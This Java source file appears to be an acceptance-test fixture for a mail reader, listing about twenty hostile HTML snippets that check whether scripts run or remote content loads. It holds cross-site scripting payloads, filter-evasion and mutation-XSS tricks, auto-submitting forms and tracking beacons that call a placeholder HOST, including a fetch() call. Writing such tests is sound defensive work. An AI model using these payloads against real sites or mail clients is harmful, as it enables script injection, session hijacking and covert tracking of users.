package io.github.sesquill.acceptance;

import java.util.List;

/** HTML that runs scripts, fetches, sends or leaves where a mail reader lets it. */
final class HostileHtml {

    private static final String SCRIPT = "alert(1);parent.document.title='owned';fetch('HOST/fetch')";

    private static final List<String> ALL = List.of(
            "<script>" + SCRIPT + "</script>",
            "<script src=\"HOST/script.js\"></script><script type=module src=\"HOST/module.js\"></script>",
            "<img src=\"HOST/pixel.png\"><img srcset=\"HOST/srcset.png 1x\"><picture><source srcset=\"HOST/source.png\">"
                    + "<img></picture>",
            "<img src=x onerror=\"" + SCRIPT + "\">",
            "<body onload=\"" + SCRIPT + "\" onpageshow=\"" + SCRIPT + "\" background=\"HOST/background.png\">",
            "<svg onload=\"" + SCRIPT + "\"><script>" + SCRIPT + "</script><image href=\"HOST/image.svg\"/>"
                    + "<use href=\"HOST/use.svg#a\"/><foreignObject><iframe src=\"HOST/foreign\"></iframe>"
                    + "</foreignObject></svg>",
            "<meta http-equiv=\"refresh\" content=\"0;url=HOST/refresh\">",
            "<base href=\"HOST/\"><img src=\"base.png\"><a href=\"base\">x</a>",
            "<form id=f action=\"HOST/form\" method=post><input name=a value=b autofocus onfocus=\"" + SCRIPT
                    + ";f.submit()\"><button formaction=\"javascript:" + SCRIPT + "\">x</button></form>",
            "<style>@import url(HOST/import.css);@font-face{font-family:x;src:url(HOST/font.woff)}"
                    + "body{font-family:x;background:url(HOST/style.png);list-style:url(HOST/list.png);"
                    + "cursor:url(HOST/cursor.png),auto}</style>text",
            "<link rel=stylesheet href=\"HOST/link.css\"><link rel=preload as=image href=\"HOST/preload.png\">"
                    + "<link rel=prefetch href=\"HOST/prefetch\"><link rel=\"preconnect\" href=\"HOST/\">"
                    + "<link rel=dns-prefetch href=\"//example.invalid\"><link rel=modulepreload href=\"HOST/m.js\">"
                    + "<LINK/rel=preconnect href=\"HOST/\">",
            "<a id=a href=\"javascript:" + SCRIPT + "\" ping=\"HOST/ping\">x</a><iframe src=\"javascript:" + SCRIPT
                    + "\"></iframe>",
            "<iframe src=\"HOST/frame\"></iframe><iframe srcdoc=\"<script>parent.parent.document.title='owned';alert(1)"
                    + "</script><img src='HOST/srcdoc.png'>\"></iframe>",
            "<object data=\"HOST/object\"></object><embed src=\"HOST/embed\"><applet code=\"HOST/a\"></applet>"
                    + "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<video src=\"HOST/video.mp4\" poster=\"HOST/poster.png\" autoplay onerror=\"" + SCRIPT
                    + "\"></video><audio src=\"HOST/audio.mp3\" autoplay></audio><track src=\"HOST/track.vtt\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=" + "alert(1)" + ">\"></noscript>",
            "<div style=\"background:url(HOST/inline.png);width:expression(alert(1))\" onmouseover=\"alert(1)\">x</div>"
                    + "<details open ontoggle=\"" + SCRIPT + "\"><marquee onstart=\"" + SCRIPT
                    + "\">x</marquee></details>",
            "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"HOST/speculated\"]}]}</script>"
                    + "<table background=\"HOST/table.png\"><td background=\"HOST/td.png\">x</table>",
            "</iframe></html><script>" + SCRIPT + "</script><scr<script>ipt>alert(1)</script><a href=\"HOST/top\""
                    + " target=_top autofocus>x</a><template><img src=\"HOST/template.png\"></template>"
                    + "<input type=image src=\"HOST/input.png\">");

    private HostileHtml() {}

    /** Returns how many there are. */
    static int count() {
        return ALL.size();
    }

    /** Returns one of them, with a host to phone to. */
    static String of(int index, String host) {
        return ALL.get(index).replace("HOST", host);
    }
}
